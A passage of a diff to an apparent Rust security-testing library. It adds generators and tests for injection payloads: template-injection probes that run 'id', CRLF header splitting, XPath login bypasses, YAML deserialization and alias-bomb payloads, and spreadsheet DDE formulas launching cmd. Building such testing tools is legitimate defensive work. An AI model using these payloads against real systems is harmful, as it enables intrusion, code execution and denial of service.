+/// Template engine targeted by [`ssti_engine_variation`].
+///
+/// [`supported_engines`] lists every variant, for iterating all engines.
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
+pub enum TemplateEngine {
+    /// Jinja2 (Python, Flask).
+    Jinja2,
+    /// Twig (PHP, Symfony).
+    Twig,
+    /// Apache FreeMarker (Java).
+    Freemarker,
+    /// Apache Velocity (Java).
+    Velocity,
+    /// ERB (Ruby, Rails).
+    Erb,
+    /// Pebble (Java).
+    Pebble,
+    /// Handlebars (JavaScript).
+    Handlebars,
+    /// Smarty (PHP).
+    Smarty,
+    /// Mako (Python).
+    Mako,
+}
+
+/// Every [`TemplateEngine`], in declaration order.
+const TEMPLATE_ENGINES: [TemplateEngine; 9] = [
+    TemplateEngine::Jinja2,
+    TemplateEngine::Twig,
+    TemplateEngine::Freemarker,
+    TemplateEngine::Velocity,
+    TemplateEngine::Erb,
+    TemplateEngine::Pebble,
+    TemplateEngine::Handlebars,
+    TemplateEngine::Smarty,
+    TemplateEngine::Mako,
+];
+
+impl TemplateEngine {
+    /// Lowercase engine name, e.g. `"jinja2"`.
+    pub fn name(self) -> &'static str {
+        match self {
+            TemplateEngine::Jinja2 => "jinja2",
+            TemplateEngine::Twig => "twig",
+            TemplateEngine::Freemarker => "freemarker",
+            TemplateEngine::Velocity => "velocity",
+            TemplateEngine::Erb => "erb",
+            TemplateEngine::Pebble => "pebble",
+            TemplateEngine::Handlebars => "handlebars",
+            TemplateEngine::Smarty => "smarty",
+            TemplateEngine::Mako => "mako",
+        }
+    }
+
+    /// Looks up an engine by name, case-insensitively; `"jinja"` is
+    /// accepted for Jinja2.
+    ///
+    /// # Examples
+    ///
+    /// ```
+    /// use redstr::TemplateEngine;
+    /// assert_eq!(TemplateEngine::from_name("Twig"), Some(TemplateEngine::Twig));
+    /// assert_eq!(TemplateEngine::from_name("jinja"), Some(TemplateEngine::Jinja2));
+    /// assert_eq!(TemplateEngine::from_name("unknown"), None);
+    /// ```
+    pub fn from_name(name: &str) -> Option<Self> {
+        let name = name.to_lowercase();
+        if name == "jinja" {
+            return Some(TemplateEngine::Jinja2);
+        }
+        TEMPLATE_ENGINES
+            .iter()
+            .copied()
+            .find(|engine| engine.name() == name)
+    }
+
+    /// Probes appended by [`ssti_engine_variation`].
+    fn probes(self) -> &'static [&'static str] {
+        match self {
+            TemplateEngine::Jinja2 => &[
+                "{{ config.items() }}",
+                "{{ request.application.__globals__ }}",
+                "{{ ''.__class__.__mro__[1].__subclasses__() }}",
+            ],
+            TemplateEngine::Twig => &["{{ _self }}", "{{ _self.env }}", "{{ dump(_self) }}"],
+            TemplateEngine::Freemarker => &["${.vars}", "${.data_model}", "${.main}"],
+            TemplateEngine::Velocity => &["$class.inspect", "$class.type", "$class.forName"],
+            TemplateEngine::Erb => &[
+                "<%= 7*7 %>",
+                "<%= `id` %>",
+                "<%= File.open('/etc/passwd').read %>",
+            ],
+            TemplateEngine::Pebble => &[
+                "{{ 7*7 }}",
+                "{{ 'a'.getClass() }}",
+                "{{ variable.getClass().forName('java.lang.Runtime') }}",
+            ],
+            TemplateEngine::Handlebars => &[
+                "{{this}}",
+                "{{#each this}}{{@key}}{{/each}}",
+                "{{lookup (lookup this \"constructor\") \"name\"}}",
+            ],
+            TemplateEngine::Smarty => &[
+                "{$smarty.version}",
+                "{system('id')}",
+                "{php}echo `id`;{/php}",
+            ],
+            TemplateEngine::Mako => &[
+                "${7*7}",
+                "${self.module.cache.util.os.system('id')}",
+                "<%import os%>${os.popen('id').read()}",
+            ],
+        }
+    }
+}
+
+impl fmt::Display for TemplateEngine {
+    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
+        f.write_str(self.name())
+    }
+}
+
+/// Returns every supported [`TemplateEngine`].
+///
+/// # Examples
+///
+/// ```
+/// use redstr::{ssti_engine_variation, supported_engines};
+///
+/// for &engine in supported_engines() {
+///     let probe = ssti_engine_variation("Hello ", engine);
+///     assert!(probe.len() > "Hello ".len(), "{}", engine);
+/// }
+/// ```
+pub fn supported_engines() -> &'static [TemplateEngine] {
+    &TEMPLATE_ENGINES
+}
+
+/// Appends a randomly chosen probe for `engine` to `template`.
+///
+/// Probes range from arithmetic (`<%= 7*7 %>`) and object dumps
+/// (`{{ _self.env }}`) to class lookups and command execution.
+///
+/// # Use Cases
+///
+/// - **Red Team**: Fingerprint the template engine and escalate SSTI
+/// - **Blue Team**: Verify user input never reaches template compilation
+///
+/// # Examples
+///
+/// ```
+/// use redstr::{ssti_engine_variation, TemplateEngine};
+/// let result = ssti_engine_variation("Hello ", TemplateEngine::Erb);
+/// assert!(result.starts_with("Hello <%"));
+/// ```
+pub fn ssti_engine_variation(template: &str, engine: TemplateEngine) -> String {
+    let mut rng = SimpleRng::new();
+    let probes = engine.probes();
+    let probe = probes[rng.next() as usize % probes.len()];
+    format!("{}{}", template, probe)
+}
+
 /// Generates framework-specific SSTI variations for template injection testing.
 ///
+/// Knows `jinja2` (or `jinja`), `freemarker`, `velocity` and `twig`,
+/// case-insensitively; any other name gets the generic `{7*7}` probe. Use
+/// [`ssti_engine_variation`] for the probes of every [`TemplateEngine`].
+///
 /// Useful for red team SSTI testing and blue team template validation.
 ///
 /// # Examples
@@ -575,40 +1548,20 @@ pub fn ssti_injection(template: &str) -> String {
 /// ```
 pub fn ssti_framework_variation(template: &str, framework: &str) -> String {
     let mut rng = SimpleRng::new();
-    let mut result = template.to_string();
-
-    match framework.to_lowercase().as_str() {
-        "jinja2" | "jinja" => {
-            let patterns = [
-                "{{ config.items() }}",
-                "{{ request.application.__globals__ }}",
-                "{{ ''.__class__.__mro__[1].__subclasses__() }}",
-            ];
-            let pattern = patterns[rng.next() as usize % patterns.len()];
-            result = format!("{}{}", result, pattern);
-        }
-        "freemarker" => {
-            let patterns = ["${.vars}", "${.data_model}", "${.main}"];
-            let pattern = patterns[rng.next() as usize % patterns.len()];
-            result = format!("{}{}", result, pattern);
-        }
-        "velocity" => {
-            let patterns = ["$class.inspect", "$class.type", "$class.forName"];
-            let pattern = patterns[rng.next() as usize % patterns.len()];
-            result = format!("{}{}", result, pattern);
-        }
-        "twig" => {
-            let patterns = ["{{ _self }}", "{{ _self.env }}", "{{ dump(_self) }}"];
-            let pattern = patterns[rng.next() as usize % patterns.len()];
-            result = format!("{}{}", result, pattern);
-        }
-        _ => {
-            // Generic pattern
-            result = format!("{}{{7*7}}", result);
-        }
-    }
-
-    result
+    let patterns: &[&str] = match framework.to_lowercase().as_str() {
+        "jinja2" | "jinja" => &[
+            "{{ config.items() }}",
+            "{{ request.application.__globals__ }}",
+            "{{ ''.__class__.__mro__[1].__subclasses__() }}",
+        ],
+        "freemarker" => &["${.vars}", "${.data_model}", "${.main}"],
+        "velocity" => &["$class.inspect", "$class.type", "$class.forName"],
+        "twig" => &["{{ _self }}", "{{ _self.env }}", "{{ dump(_self) }}"],
+        // Generic pattern
+        _ => &["{7*7}"],
+    };
+    let pattern = patterns[rng.next() as usize % patterns.len()];
+    format!("{}{}", template, pattern)
 }
 
 /// Generates template syntax obfuscation for SSTI testing.
@@ -653,9 +1606,316 @@ pub fn ssti_syntax_obfuscate(template: &str) -> String {
     result
 }
 
+/// Line-break encodings that may reach a header or log sink as CR/LF.
+const CRLF_SEQUENCES: &[&str] = &[
+    "%0d%0a",
+    "%0D%0A",
+    "%0a",
+    "%0d",
+    "\r\n",
+    "%250d%250a",
+    "%25250d%25250a",
+    "%E5%98%8D%E5%98%8A",
+    "%c4%8d%c4%8a",
+    "%u000d%u000a",
+    "%e2%80%a8",
+    "%0d%0a%09",
+    "\\r\\n",
+];
+
+/// Encodes the line breaks of `input` with `sequence`, or prepends one.
+fn encode_crlf(input: &str, sequence: &str) -> String {
+    if input.contains('\n') {
+        input.replace("\r\n", "\n").replace('\n', sequence)
+    } else {
+        format!("{}{}", sequence, input)
+    }
+}
+
+/// Generates CRLF injection payloads for HTTP header injection and response splitting.
+///
+/// Every line break in `input` is replaced with each known CRLF encoding; when
+/// `input` has no line break, one is prepended, so `"Set-Cookie: a=b"` becomes
+/// `"%0d%0aSet-Cookie: a=b"` and so on. The encodings cover plain and
+/// upper-case percent-encoding, bare LF/CR, raw and escaped `\r\n`,
+/// double and triple URL encoding, the `%E5%98%8D%E5%98%8A` UTF-8 trick
+/// (U+560D/U+560A, whose low bytes are CR/LF after truncation), IIS `%u`
+/// escapes, U+2028, and obsolete header folding.
+///
+/// # Use Cases
+///
+/// - **Red Team**: Inject headers or split responses through reflected values
+/// - **Blue Team**: Verify header writers reject or strip encoded line breaks
+///
+/// # Examples
+///
+/// ```
+/// use redstr::crlf_injection;
+/// let payloads = crlf_injection("Set-Cookie: session=evil");
+/// assert!(payloads.contains(&"%0d%0aSet-Cookie: session=evil".to_string()));
+/// assert!(payloads.contains(&"%E5%98%8D%E5%98%8ASet-Cookie: session=evil".to_string()));
+///
+/// // Existing line breaks are encoded in place (response splitting)
+/// let split = crlf_injection("\r\n\r\n<html>owned</html>");
+/// assert!(split.contains(&"%0d%0a%0d%0a<html>owned</html>".to_string()));
+/// ```
+pub fn crlf_injection(input: &str) -> Vec<String> {
+    CRLF_SEQUENCES
+        .iter()
+        .map(|sequence| encode_crlf(input, sequence))
+        .collect()
+}
+
+/// Applies a single randomly chosen CRLF encoding to `input`.
+///
+/// Single-output form of [`crlf_injection`] for use in transform chains.
+///
+/// # Examples
+///
+/// ```
+/// use redstr::crlf_injection_variant;
+/// let result = crlf_injection_variant("Location: https://evil.com");
+/// assert!(result.ends_with("Location: https://evil.com"));
+/// assert!(result.len() > "Location: https://evil.com".len());
+/// ```
+pub fn crlf_injection_variant(input: &str) -> String {
+    let mut rng = SimpleRng::new();
+    let sequence = CRLF_SEQUENCES[rng.next() as usize % CRLF_SEQUENCES.len()];
+    encode_crlf(input, sequence)
+}
+
+/// Builds an XPath 1.0 expression equal to `value` without a literal that
+/// contains it: `concat('a','d','m','i','n')`. XPath has no escape syntax, so
+/// this is also the only way to express a string holding both quote kinds.
+fn xpath_concat(value: &str) -> String {
+    let mut parts: Vec<String> = value
+        .chars()
+        .map(|c| match c {
+            '\'' => "\"'\"".to_string(),
+            _ => format!("'{}'", c),
+        })
+        .collect();
+    // concat() takes at least two arguments
+    while parts.len() < 2 {
+        parts.push("''".to_string());
+    }
+    format!("concat({})", parts.join(","))
+}
+
+/// Generates XPath injection payloads for XML-backed authentication and search.
+///
+/// Covers the same ground as the SQL and NoSQL helpers: tautologies that
+/// close a quoted value in either quote style (`admin' or '1'='1`), a union
+/// that selects every node (`']|//*|//*['`), a false condition for blind
+/// comparison, quote-free values rebuilt with `concat()`, and XPath 2.0
+/// functions (`lower-case`, `matches`, `string-join`, `codepoints-to-string`)
+/// that only succeed on 2.0 engines, fingerprinting the processor.
+///
+/// # Use Cases
+///
+/// - **Red Team**: Bypass XPath-based logins and extract XML documents blind
+/// - **Blue Team**: Verify XPath queries are parameterized or strictly escaped
+///
+/// # Examples
+///
+/// ```
+/// use redstr::xpath_injection;
+/// let payloads = xpath_injection("admin");
+/// assert!(payloads.contains(&"admin' or '1'='1".to_string()));
+/// assert!(payloads.contains(&"' or .=concat('a','d','m','i','n') or '".to_string()));
+/// assert!(payloads.iter().any(|p| p.contains("lower-case(")));
+/// ```
+pub fn xpath_injection(input: &str) -> Vec<String> {
+    let concat = xpath_concat(input);
+    let payloads = vec![
+        // Boolean bypass in both quote styles and inside predicates
+        format!("{}' or '1'='1", input),
+        format!("{}\" or \"1\"=\"1", input),
+        format!("{}' or 1=1 or 'a'='a", input),
+        format!("{}' or true() or '", input),
+        format!("{}') or ('1'='1", input),
+        format!("{}' or position()=1 or '", input),
+        format!("{}']|//*|//*['", input),
+        format!("{}' and '1'='2", input),
+        format!("{}' and count(/*)=1 and '1'='1", input),
+        format!("{}' and string-length(name(/*[1]))>0 and '1'='1", input),
+        format!("{}' and substring(name(/*[1]),1,1)='a' and '1'='1", input),
+        // String concatenation: the value never appears as a literal
+        format!("' or .={} or '", concat),
+        format!("' or contains(.,{}) or '", concat),
+        format!("' or name()=name() and .={} or '", concat),
+        format!("{}' or concat('1','')='1", input),
+        // XPath 2.0 functions
+        format!("{}' or lower-case(name(/*[1]))!='' or '", input),
+        format!("{}' or matches(name(/*[1]),'.*') or '", input),
+        format!("{}' or string-join(//text(),'')!='' or '", input),
+        format!("{}' or codepoints-to-string((49))='1' or '", input),
+        format!("{}' or exists(//*) or '", input),
+    ];
+
+    dedup_preserving_order(payloads)
+}
+
+/// Levels in the alias bomb from [`yaml_injection`]; 9^9 (387M) leaves.
+const YAML_BOMB_LEVELS: usize = 9;
+
+/// Builds a "billion laughs" document: each level is a list of nine aliases
+/// to the level below, and `key` points at the top.
+fn yaml_alias_bomb(key: &str) -> String {
+    let mut doc = format!("a: &a [{}]\n", ["\"lol\""; YAML_BOMB_LEVELS].join(","));
+    let names: Vec<char> = ('a'..='z').take(YAML_BOMB_LEVELS).collect();
+    for pair in names.windows(2) {
+        let aliases = vec![format!("*{}", pair[0]); YAML_BOMB_LEVELS];
+        doc.push_str(&format!("{0}: &{0} [{1}]\n", pair[1], aliases.join(",")));
+    }
+    doc.push_str(&format!("{}: *{}", key, names[YAML_BOMB_LEVELS - 1]));
+    doc
+}
+
+/// Generates YAML injection payloads for unsafe loaders in CI configs and APIs.
+///
+/// Each payload is a YAML document setting `key`:
+///
+/// - Language tags that construct objects or call functions on unsafe
+///   loaders: PyYAML `!!python/object/apply`, `!!python/name`, Ruby
+///   `!ruby/object`, SnakeYAML `!!java...` and js-yaml `!!js/function`.
+///   The Python call is repeated with a `%TAG` shorthand and a verbatim
+///   `!<tag:yaml.org,2002:...>` tag to get past filters on `!!python`.
+/// - An anchor/alias bomb ("billion laughs") that expands to 9^9 strings.
+/// - Merge keys (`<<`) and duplicate keys that smuggle extra fields, such
+///   as `admin: true`, into the mapping under `key`.
+///
+/// # Use Cases
+///
+/// - **Red Team**: Reach code execution or privilege fields through YAML input
+/// - **Blue Team**: Verify loaders are safe (`safe_load`) and alias expansion is capped
+///
+/// # Examples
+///
+/// ```
+/// use redstr::yaml_injection;
+/// let payloads = yaml_injection("config");
+/// assert!(payloads.contains(&"config: !!python/object/apply:os.system [\"id\"]".to_string()));
+/// assert!(payloads.iter().any(|p| p.contains("i: &i [*h,*h,*h")));
+/// assert!(payloads.iter().any(|p| p.contains("<<: *defaults")));
+/// ```
+pub fn yaml_injection(key: &str) -> Vec<String> {
+    let payloads = vec![
+        // Object construction and function calls via language tags
+        format!("{}: !!python/object/apply:os.system [\"id\"]", key),
+        format!("{}: !!python/object/apply:subprocess.check_output [[\"id\"]]", key),
+        format!("{}: !!python/object/new:subprocess.Popen [[\"id\"]]", key),
+        format!(
+            "{}: !!python/object/apply:builtins.eval [\"__import__('os').system('id')\"]",
+            key
+        ),
+        format!("{}: !!python/name:os.system", key),
+        format!(
+            "%TAG !py! tag:yaml.org,2002:python/object/apply:\n---\n{}: !py!os.system [\"id\"]",
+            key
+        ),
+        format!(
+            "{}: !<tag:yaml.org,2002:python/object/apply:os.system> [\"id\"]",
+            key
+        ),
+        format!("{}: !ruby/object:Gem::Requirement\n  requirements: []", key),
+        format!("{}: !!java.io.FileInputStream [\"/etc/passwd\"]", key),
+        format!(
+            "{}: !!js/function \"function(){{return process.mainModule.require('child_process').execSync('id').toString()}}\"",
+            key
+        ),
+        // Anchor/alias expansion bomb
+        yaml_alias_bomb(key),
+        // Merge keys and duplicate keys
+        format!(
+            "defaults: &defaults\n  admin: true\n  role: admin\n{}:\n  <<: *defaults",
+            key
+        ),
+        format!("{}: {{<<: {{admin: true, role: admin}}}}", key),
+        format!(
+            "base: &base {{admin: true}}\nextra: &extra {{role: admin}}\n{}:\n  <<: [*base, *extra]",
+            key
+        ),
+        format!("{}:\n  role: user\n  role: admin", key),
+        format!("{0}: user\n{0}: admin", key),
+    ];
+
+    dedup_preserving_order(payloads)
+}
+
+/// Quotes a field per RFC 4180, doubling embedded quotes.
+fn csv_quote(field: &str) -> String {
+    format!("\"{}\"", field.replace('"', "\"\""))
+}
+
+/// Generates CSV/spreadsheet formula injection payloads for export features.
+///
+/// `value` is the command the DDE payloads launch (`calc`, `powershell -c
+/// ...`) and the location the `HYPERLINK` payloads open (a path or UNC
+/// share). Both are emitted behind every trigger character spreadsheets
+/// evaluate: `=`, `+`, `-`, `@`, and a leading tab or carriage return that
+/// slips past sanitizers checking only for operators. Further variants use
+/// arithmetic chaining (`=10+20+cmd|...`), the `MSEXCEL` and LibreOffice
+/// `DDE()` spellings, RFC 4180 quoting, a delimiter that opens a new cell
+/// (`,` and `;` locales), and URL encoding for values passed in query strings.
+///
+/// # Use Cases
+///
+/// - **Red Team**: Execute commands or open attacker files from exported CSVs
+/// - **Blue Team**: Verify exports neutralize formula triggers (leading `'`)
+///
+/// # Examples
+///
+/// ```
+/// use redstr::csv_formula_injection;
+/// let payloads = csv_formula_injection("calc");
+/// assert!(payloads.contains(&"=cmd|' /C calc'!A0".to_string()));
+/// assert!(payloads.contains(&"@SUM(1+1)*cmd|' /C calc'!A0".to_string()));
+/// assert!(payloads.contains(&"\t=cmd|' /C calc'!A0".to_string()));
+/// assert!(payloads.iter().any(|p| p.starts_with("=HYPERLINK(\"calc\"")));
+/// ```
+pub fn csv_formula_injection(value: &str) -> Vec<String> {
+    let dde = format!("cmd|' /C {}'!A0", value);
+    let hyperlink = format!("HYPERLINK(\"{}\",\"Click to view details\")", value);
+
+    let mut payloads = Vec::new();
+    for body in [&dde, &hyperlink] {
+        payloads.push(format!("={}", body));
+        payloads.push(format!("+{}", body));
+        payloads.push(format!("-{}", body));
+        payloads.push(format!("@SUM(1+1)*{}", body));
+        payloads.push(format!("\t={}", body));
+        payloads.push(format!("\r={}", body));
+    }
+    payloads.push(format!("@{}", hyperlink));
+    payloads.extend([
+        format!("=10+20+{}", dde),
+        format!(
+            "=MSEXCEL|'\\..\\..\\..\\Windows\\System32\\cmd.exe /c {}'!''",
+            value
+        ),
+        format!("=DDE(\"cmd\";\"/C {}\";\"!A0\")A0", value),
+    ]);
+
+    // Encoding variants
+    let formula = format!("={}", dde);
+    payloads.extend([
+        csv_quote(&formula),
+        csv_quote(&format!("={}", hyperlink)),
+        format!("x,{}", formula),
+        format!("x;{}", formula),
+        format!("x\",{}", formula),
+        url_encode(&formula),
+        url_encode(&format!("\t{}", formula)),
+    ]);
+
+    dedup_preserving_order(payloads)
+}
+
 #[cfg(test)]
 mod nosql_ssti_tests {
     use super::*;
+    use std::collections::HashSet;
 
     #[test]
     fn test_mongodb_injection() {
@@ -1121,7 +2381,20 @@ mod nosql_ssti_tests {
         let template = "Hello {{ name }}";
         let result = ssti_framework_variation(template, "unknown");
         // Should inject generic pattern
-        assert!(!result.is_empty());
+        assert_eq!(result, "Hello {{ name }}{7*7}");
+    }
+
+    #[test]
+    fn test_ssti_framework_variation_keeps_original_frameworks() {
+        // Engines added to TemplateEngine only get probes via ssti_engine_variation
+        for framework in ["erb", "pebble", "smarty", "handlebars", "mako"] {
+            assert_eq!(ssti_framework_variation("x", framework), "x{7*7}");
+        }
+        for _ in 0..20 {
+            let result = ssti_framework_variation("x", "Twig");
+            assert!(["x{{ _self }}", "x{{ _self.env }}", "x{{ dump(_self) }}"]
+                .contains(&result.as_str()));
+        }
     }
 
     #[test]
@@ -1146,6 +2419,40 @@ mod nosql_ssti_tests {
         assert!(!result.is_empty());
     }
 
+    #[test]
+    fn test_supported_engines_round_trip_names() {
+        let engines = supported_engines();
+        assert_eq!(engines.len(), 9);
+        for &engine in engines {
+            assert_eq!(TemplateEngine::from_name(engine.name()), Some(engine));
+            assert_eq!(
+                TemplateEngine::from_name(&engine.name().to_uppercase()),
+                Some(engine)
+            );
+            assert_eq!(engine.to_string(), engine.name());
+        }
+        let unique: HashSet<&TemplateEngine> = engines.iter().collect();
+        assert_eq!(unique.len(), engines.len());
+    }
+
+    #[test]
+    fn test_ssti_engine_variation_appends_probe() {
+        for &engine in supported_engines() {
+            let result = ssti_engine_variation("Hello ", engine);
+            let probe = result.strip_prefix("Hello ").unwrap();
+            assert!(engine.probes().contains(&probe), "{}: {}", engine, probe);
+        }
+    }
+
+    #[test]
+    fn test_ssti_engine_variation_engine_syntax() {
+        assert!(ssti_engine_variation("", TemplateEngine::Erb).starts_with("<%"));
+        assert!(ssti_engine_variation("", TemplateEngine::Smarty).starts_with('{'));
+        assert!(ssti_engine_variation("", TemplateEngine::Handlebars).starts_with("{{"));
+        let mako = ssti_engine_variation("", TemplateEngine::Mako);
+        assert!(mako.starts_with("${") || mako.starts_with("<%"));
+    }
+
     #[test]
     fn test_ssti_syntax_obfuscate() {
         let template = "{{ name }}";
@@ -1225,4 +2532,357 @@ mod nosql_ssti_tests {
         // Should contain some form of name or template
         assert!(!result.is_empty());
     }
+
+    #[test]
+    fn test_crlf_injection_prepends_sequences() {
+        let payloads = crlf_injection("Set-Cookie: a=b");
+        assert_eq!(payloads.len(), CRLF_SEQUENCES.len());
+        assert!(payloads.contains(&"%0d%0aSet-Cookie: a=b".to_string()));
+        assert!(payloads.contains(&"%250d%250aSet-Cookie: a=b".to_string()));
+        assert!(payloads.contains(&"\r\nSet-Cookie: a=b".to_string()));
+        assert!(payloads.iter().all(|p| p.ends_with("Set-Cookie: a=b")));
+    }
+
+    #[test]
+    fn test_crlf_injection_unicode_tricks() {
+        let payloads = crlf_injection("X: y");
+        assert!(payloads.contains(&"%E5%98%8D%E5%98%8AX: y".to_string()));
+        assert!(payloads.contains(&"%u000d%u000aX: y".to_string()));
+    }
+
+    #[test]
+    fn test_crlf_injection_encodes_existing_breaks() {
+        let payloads = crlf_injection("a\r\nb\nc");
+        assert!(payloads.contains(&"a%0d%0ab%0d%0ac".to_string()));
+        assert!(payloads.iter().all(|p| p.starts_with('a')));
+        assert!(!payloads[0].contains('\n'));
+    }
+
+    #[test]
+    fn test_crlf_injection_variant() {
+        let result = crlf_injection_variant("Set-Cookie: a=b");
+        assert!(CRLF_SEQUENCES
+            .iter()
+            .any(|s| result == format!("{}Set-Cookie: a=b", s)));
+    }
+
+    #[test]
+    fn test_xpath_injection_boolean_bypass() {
+        let payloads = xpath_injection("admin");
+        assert!(payloads.contains(&"admin' or '1'='1".to_string()));
+        assert!(payloads.contains(&"admin\" or \"1\"=\"1".to_string()));
+        assert!(payloads.contains(&"admin']|//*|//*['".to_string()));
+        assert!(payloads.contains(&"admin' and '1'='2".to_string()));
+    }
+
+    #[test]
+    fn test_xpath_injection_concat() {
+        assert_eq!(xpath_concat("ab"), "concat('a','b')");
+        assert_eq!(xpath_concat("a"), "concat('a','')");
+        assert_eq!(xpath_concat(""), "concat('','')");
+        assert_eq!(xpath_concat("o'b"), "concat('o',\"'\",'b')");
+        let payloads = xpath_injection("root");
+        assert!(payloads.contains(&"' or .=concat('r','o','o','t') or '".to_string()));
+    }
+
+    #[test]
+    fn test_xpath_injection_xpath2_functions() {
+        let payloads = xpath_injection("x");
+        for function in [
+            "lower-case(",
+            "matches(",
+            "string-join(",
+            "codepoints-to-string(",
+        ] {
+            assert!(
+                payloads.iter().any(|p| p.contains(function)),
+                "{}",
+                function
+            );
+        }
+    }
+
+    #[test]
+    fn test_xpath_injection_unique() {
+        for input in ["", "admin", "o'brien"] {
+            let payloads = xpath_injection(input);
+            let unique: HashSet<&String> = payloads.iter().collect();
+            assert_eq!(unique.len(), payloads.len());
+            assert!(payloads.len() >= 15);
+        }
+    }
+
+    #[test]
+    fn test_yaml_injection_language_tags() {
+        let payloads = yaml_injection("build");
+        assert!(payloads.contains(&"build: !!python/object/apply:os.system [\"id\"]".to_string()));
+        assert!(payloads.iter().any(|p| p.starts_with("%TAG !py! ")));
+        assert!(payloads
+            .iter()
+            .any(|p| p.contains("!<tag:yaml.org,2002:python/")));
+        assert!(payloads.iter().any(|p| p.contains("!ruby/object:")));
+        assert!(payloads.iter().any(|p| p.contains("!!java.")));
+        assert!(payloads.iter().any(|p| p.contains("!!js/function")));
+    }
+
+    #[test]
+    fn test_yaml_injection_alias_bomb() {
+        let bomb = yaml_alias_bomb("k");
+        let lines: Vec<&str> = bomb.lines().collect();
+        assert_eq!(lines.len(), YAML_BOMB_LEVELS + 1);
+        assert_eq!(lines[0].matches("\"lol\"").count(), YAML_BOMB_LEVELS);
+        assert_eq!(lines[1], "b: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]");
+        assert_eq!(lines[YAML_BOMB_LEVELS], "k: *i");
+        assert!(yaml_injection("k").contains(&bomb));
+    }
+
+    #[test]
+    fn test_yaml_injection_merge_keys() {
+        let payloads = yaml_injection("user");
+        assert!(payloads
+            .iter()
+            .any(|p| p.ends_with("user:\n  <<: *defaults") && p.contains("admin: true")));
+        assert!(payloads.contains(&"user: {<<: {admin: true, role: admin}}".to_string()));
+        assert!(payloads.iter().any(|p| p.contains("<<: [*base, *extra]")));
+        assert!(payloads.contains(&"user: user\nuser: admin".to_string()));
+    }
+
+    #[test]
+    fn test_yaml_injection_unique() {
+        let payloads = yaml_injection("key");
+        let unique: HashSet<&String> = payloads.iter().collect();
+        assert_eq!(unique.len(), payloads.len());
+        assert!(payloads.iter().all(|p| p.contains("key")));
+    }
+
+    #[test]
+    fn test_csv_formula_injection_trigger_characters() {
+        let payloads = csv_formula_injection("calc");
+        for prefix in ["=", "+", "-", "@", "\t=", "\r="] {
+            assert!(
+                payloads
+                    .iter()
+                    .any(|p| p.starts_with(prefix) && p.contains("cmd|' /C calc'!A0")),
+                "{:?}",
+                prefix
+            );
+            assert!(
+                payloads
+                    .iter()
+                    .any(|p| p.starts_with(prefix) && p.contains("HYPERLINK(\"calc\"")),
+                "{:?}",
+                prefix
+            );
+        }
+    }
+
+    #[test]
+    fn test_csv_formula_injection_dde_spellings() {
+        let payloads = csv_formula_injection("notepad");
+        assert!(payloads.contains(&"=10+20+cmd|' /C notepad'!A0".to_string()));
+        assert!(payloads
+            .iter()
+            .any(|p| p.starts_with("=MSEXCEL|") && p.contains("notepad")));
+        assert!(payloads.contains(&"=DDE(\"cmd\";\"/C notepad\";\"!A0\")A0".to_string()));
+    }
+
+    #[test]
+    fn test_csv_formula_injection_encoding_variants() {
+        let payloads = csv_formula_injection("calc");
+        assert!(payloads.contains(&"\"=cmd|' /C calc'!A0\"".to_string()));
+        assert!(payloads
+            .contains(&"\"=HYPERLINK(\"\"calc\"\",\"\"Click to view details\"\")\"".to_string()));
+        assert!(payloads.contains(&"x;=cmd|' /C calc'!A0".to_string()));
+        assert!(payloads.contains(&"%3Dcmd%7C%27%20%2FC%20calc%27%21A0".to_string()));
+        assert!(payloads.iter().any(|p| p.starts_with("%09%3D")));
+    }
+
+    #[test]
+    fn test_csv_formula_injection_unique() {
+        let payloads = csv_formula_injection("calc");
+        let unique: HashSet<&String> = payloads.iter().collect();
+        assert_eq!(unique.len(), payloads.len());
+    }
+
+    #[test]
+    fn test_mongo_where_injection_boolean() {
+        let payloads = mongo_where_injection("password");
+        assert!(payloads.contains(&r#"{"$where": "return true"}"#.to_string()));
+        assert!(payloads.contains(&r#"{"$where": "this.password != null"}"#.to_string()));
+        assert!(payloads.contains(&"' || '1'=='1".to_string()));
+    }
+
+    #[test]
+    fn test_mongo_where_injection_blind_probes() {
+        let payloads = mongo_where_injection("token");
+        assert!(payloads.contains(&r#"{"$where": "this.token.match(/^a/)"}"#.to_string()));
+        assert!(payloads.contains(&r#"{"$where": "this.token.charCodeAt(0) == 97"}"#.to_string()));
+    }
+
+    #[test]
+    fn test_mongo_where_injection_time_based() {
+        let payloads = mongo_where_injection("token");
+        assert!(payloads.contains(&r#"{"$where": "sleep(5000) || true"}"#.to_string()));
+        assert!(payloads.contains(
+            &r#"{"$where": "if (this.token.match(/^a/)) { sleep(5000) } return true"}"#.to_string()
+        ));
+        assert!(payloads
+            .iter()
+            .any(|p| p.contains("while (new Date() - d < 5000)")));
+        assert!(payloads.contains(&"'; sleep(5000); var x='".to_string()));
+    }
+
+    #[test]
+    fn test_mongo_where_injection_quotes_field() {
+        let payloads = mongo_where_injection("a\"b c");
+        assert!(payloads.contains(&r#"{"$where": "this[\"a\\\"b c\"] != null"}"#.to_string()));
+        for payload in payloads.iter().filter(|p| p.starts_with('{')) {
+            let script = payload
+                .strip_prefix(r#"{"$where": "#)
+                .and_then(|p| p.strip_suffix('}'))
+                .unwrap();
+            assert!(crate::json::json_unquote(script).is_some(), "{}", payload);
+        }
+        assert!(payloads.contains(&r#"' || this["a\"b c"].match(/^a/) || '"#.to_string()));
+    }
+
+    #[test]
+    fn test_mongo_where_injection_unique() {
+        let payloads = mongo_where_injection("a");
+        let unique: HashSet<&String> = payloads.iter().collect();
+        assert_eq!(unique.len(), payloads.len());
+    }
+
+    #[test]
+    fn test_redis_injection_inline_commands() {
+        let payloads = redis_injection("key");
+        assert!(payloads.contains(&"key\r\nPING\r\n".to_string()));
+        assert!(payloads.contains(&"key\r\nCONFIG GET dir\r\n".to_string()));
+        assert!(payloads.contains(&"key\r\nDEBUG SLEEP 5\r\n".to_string()));
+        assert!(payloads.contains(&"key\nPING\n".to_string()));
+    }
+
+    #[test]
+    fn test_redis_injection_resp_and_eval() {
+        let payloads = redis_injection("key");
+        assert!(payloads.contains(&"key\r\n*1\r\n$4\r\nPING\r\n".to_string()));
+        assert!(payloads
+            .iter()
+            .any(|p| p.contains("EVAL \"return redis.call('CONFIG','GET','dir')\" 0\r\n")));
+    }
+
+    #[test]
+    fn test_redis_injection_url_encoded() {
+        let payloads = redis_injection("key");
+        let encoded: Vec<&String> = payloads.iter().filter(|p| p.contains("%0D%0A")).collect();
+        assert_eq!(
+            encoded.len(),
+            payloads.iter().filter(|p| p.contains("\r\n")).count()
+        );
